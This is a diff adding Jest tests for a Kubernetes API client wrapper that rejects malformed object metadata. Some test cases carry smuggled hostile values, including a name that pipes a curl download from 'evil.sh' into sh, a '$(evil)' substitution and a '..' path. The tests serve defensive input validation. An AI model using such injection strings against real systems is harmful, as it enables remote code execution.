@@ -2,6 +2,9 @@ import { describe, expect, test } from '@jest/globals';
 import { SharedMemory, type TenantBudget } from '../../kubernetes/budget.ts';
 import type { ApiServer } from '../../kubernetes/cluster.ts';
 import { ApiError, Busy, Unreachable } from '../../kubernetes/errors.ts';
+import { VIRTUAL_MACHINES } from '../../kubernetes/live-resources.ts';
+import { NAMESPACES } from '../../kubernetes/resources.ts';
+import type { KubernetesObject } from '../../domain/objects.ts';
 import { BoundedCluster } from './bounded-cluster.ts';
 
 interface Asked {
@@ -133,4 +136,87 @@ describe('BoundedCluster', () => {
     await cluster.version();
     expect(waits).toEqual([400]);
   });
+});
+
+const AT = { namespace: 'vms', name: 'web' };
+const named = (other: object): KubernetesObject =>
+  ({ metadata: { namespace: 'vms', name: 'web', uid: '6f1f3fb2-9e4a', ...other } }) as never;
+
+/** A client of a server that answers each request with this object. */
+function answering(object: KubernetesObject): ApiServer {
+  const date = new Date(0);
+  const one = (): Promise<unknown> => Promise.resolve({ object, date });
+  const client = {
+    ...{ get: one, create: one, replace: one, patch: one },
+    list: () => Promise.resolve({ items: [named({}), object], resourceVersion: '7', date }),
+    async *watch() {
+      yield await Promise.resolve({ type: 'MODIFIED', object });
+    },
+  } as unknown as ApiServer;
+  const clock = { elapsed: () => 0, now: () => date, after: () => () => undefined };
+  const budget = new SharedMemory(100).newBudget();
+  return new BoundedCluster(client, { budget, clock, onFailure: () => undefined });
+}
+
+const OF_ONE: Readonly<Record<string, (cluster: ApiServer) => Promise<unknown>>> = {
+  get: (cluster) => cluster.get(VIRTUAL_MACHINES, AT),
+  create: (cluster) => cluster.create(VIRTUAL_MACHINES, { metadata: AT } as never),
+  replace: (cluster) => cluster.replace(VIRTUAL_MACHINES, named({}) as never),
+  patch: (cluster) => cluster.patch(VIRTUAL_MACHINES, AT, { merge: {} }),
+};
+const OF_MANY: typeof OF_ONE = {
+  list: (cluster) => cluster.list(VIRTUAL_MACHINES, {}),
+  'list of a namespace': (cluster) => cluster.list(VIRTUAL_MACHINES, { namespace: 'vms' }),
+  watch: async (cluster) => {
+    for await (const event of cluster.watch(VIRTUAL_MACHINES, FROM, new AbortController().signal))
+      return event;
+    return undefined;
+  },
+};
+const FROM = { resourceVersion: '7' };
+
+const isTaken = (ask: (cluster: ApiServer) => Promise<unknown>, other: object): Promise<boolean> =>
+  ask(answering(named(other))).then(
+    () => true,
+    (error: unknown) => {
+      if (error instanceof Unreachable) return false;
+      throw error;
+    },
+  );
+
+describe.each(Object.entries({ ...OF_ONE, ...OF_MANY }))('an answer to a %s', (verb, ask) => {
+  test.each<[string, object, boolean]>([
+    ['as Kubernetes gives it', {}, true],
+    ['a command for a name', { name: 'web;curl${IFS}evil.sh|sh;:' }, false],
+    ['a path for a name', { name: '..' }, false],
+    ['no text for a name', { name: ['web'] }, false],
+    ['a command for a namespace', { namespace: '$(evil)' }, false],
+    ['no namespace', { namespace: undefined }, false],
+    ['no text for a uid', { uid: {} }, false],
+    ['lines for a uid', { uid: 'a\nb' }, false],
+    ['a uid without an end', { uid: 'a'.repeat(1_000) }, false],
+    ['another name than was asked for', { name: 'db' }, verb in OF_MANY],
+    ['another namespace', { namespace: 'kube-system' }, ['list', 'watch'].includes(verb)],
+  ])('%s', async (_what, other, wanted) => {
+    expect(await isTaken(ask, other)).toBe(wanted);
+  });
+});
+
+test.each<[string, object, boolean]>([
+  ['has no namespace', { namespace: undefined, name: 'vms' }, true],
+  ['may not have one', { name: 'vms' }, false],
+])('an object of the cluster %s', async (_what, other, wanted) => {
+  // Its address may have one: the same reader reads instance types of both kinds.
+  expect(await isTaken((cluster) => cluster.get(NAMESPACES, { namespace: 'x', name: 'vms' }), other)).toBe(
+    wanted,
+  );
+});
+
+test('of one that is listed no namespace may be kept', async () => {
+  const { apiVersion, kind, plural, namespaced } = VIRTUAL_MACHINES;
+  const type = { apiVersion, kind, plural, namespaced, trim: () => undefined };
+  const ask = (cluster: ApiServer): Promise<unknown> => cluster.list(type, {});
+  expect(
+    await Promise.all([{ namespace: undefined }, { namespace: '..' }].map((other) => isTaken(ask, other))),
+  ).toEqual([true, false]);
 });
